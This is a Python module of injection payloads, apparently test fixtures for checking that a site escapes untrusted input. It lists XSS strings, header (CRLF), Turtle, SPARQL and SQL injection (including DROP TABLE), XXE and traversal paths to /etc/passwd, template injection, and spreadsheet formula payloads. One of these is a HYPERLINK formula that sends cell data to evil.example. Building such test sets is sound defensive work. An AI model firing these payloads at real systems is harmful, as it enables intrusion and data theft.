"""What somebody might write into a cell, a label, an IRI, a parameter, a path or a header to make a site do their will.

Each that would add an element, an attribute or a header adds one that is told by its name, `x-pwned`; each that would
run sets `window.pwned` and opens a dialog.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1;alert(1)"
ELEMENT: Final = "x-pwned"

# Text that some reader takes for more than text: HTML, attributes, scripts, JSON-LD blocks, XML, templates, messages.
MARKUP: Final[dict[str, str]] = {
    "element": f"<{ELEMENT}>a</{ELEMENT}>",
    "script": f"<script>{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script>",
    "comment in a script": f"<!--<script>{RUN}</script>",
    "end of a title": f"</title></style></textarea></noscript><{ELEMENT}>",
    "image": f'"><img src=x onerror="{RUN}" {ELEMENT}>',
    "drawing": f"<svg/onload={RUN} {ELEMENT}>",
    "attribute": f'" {ELEMENT}=1 onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "attribute in apostrophes": f"' {ELEMENT}=1 onmouseover='{RUN}' x='",
    "attribute without quotes": f"x {ELEMENT}=1 onfocus={RUN} autofocus",
    "references": f"&lt;{ELEMENT}&gt;&#60;{ELEMENT}&#62;&quot;&#x3c;script&#x3e;{RUN}",
    "escapes of JSON": '\\u003cscript\\u003e\\"}]</script>\\',
    "end of CDATA": f"]]><{ELEMENT}/><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "template": "{{ 7 * 191 }}{% include '/etc/passwd' %}${7*191}#{7*191}",
    "message": "%(number)s %s %d {0} {name} %",
    "line separators": f"a\u2028b\u2029c\x85{RUN}",
    "direction": f"\u202e\u2066{RUN}\u2069",
}
# Text that would end what stands before it in a file or a header, and begin something else.
ENDINGS: Final[dict[str, str]] = {
    "header": f"a\r\n{ELEMENT}: 1\r\nSet-Cookie: {ELEMENT}=1\r\n\r\n<{ELEMENT}>",
    "link": f'>; rel="{ELEMENT}", <https://evil.example/',
    "literal of Turtle": f'""" , "\\" @pl ; <https://evil.example/{ELEMENT}> "x',
    "IRI of Turtle": f"x> <https://evil.example/{ELEMENT}> <x",
    "query": f"> ?p ?o }} UNION {{ ?s <https://evil.example/{ELEMENT}> ?o }} #",
    "SQL": '\'; DROP TABLE entries; --" OR 1=1 NEAR("a" AND',
}
# What a spreadsheet takes for a formula (OWASP, CSV injection).
FORMULAS: Final[dict[str, str]] = {
    "formula by =": '=HYPERLINK("https://evil.example/?"&A1;"a")',
    "formula by +": "+cmd|' /C calc'!A0",
    "formula by -": "-1+1|' /C calc'!A0",
    "formula by @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula by a tab": "\t=1+1",
    "formula by a CR": "\r=1+1",
}
PATHS: Final[dict[str, str]] = {
    "path upwards": "../../../../etc/passwd",
    "path upwards, backwards": "..\\..\\..\\etc\\passwd",
    "path upwards, coded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "path upwards, coded twice": "%252e%252e%252fetc%252fpasswd",
    "path from the root": "/etc/passwd",
    "another host": "//evil.example/",
    "another host, backwards": "/\\evil.example/",
    "query and fragment": "?lang=en&page=2#incoming",
}
# Addresses that a browser would run, or that are none.
ADDRESSES: Final[dict[str, str]] = {
    "script": f"javascript:{RUN}",
    "script, disguised": f"JaVaScRiPt:{RUN}//https://example.org/",
    "page": f"data:text/html,%3Cscript%3E{RUN}%3C/script%3E",
    "old script": f"vbscript:{RUN}",
    "file": "file:///etc/passwd",
    "user": "https://lod.example.org@evil.example/",
    "attribute": f"https://evil.example/'{ELEMENT}='1'onmouseover='{RUN}",
    "references": f"https://evil.example/?a=1&quot;&lt;{ELEMENT}&gt;&amp",
}
TEXTS: Final = {**MARKUP, **ENDINGS, **FORMULAS, **PATHS}
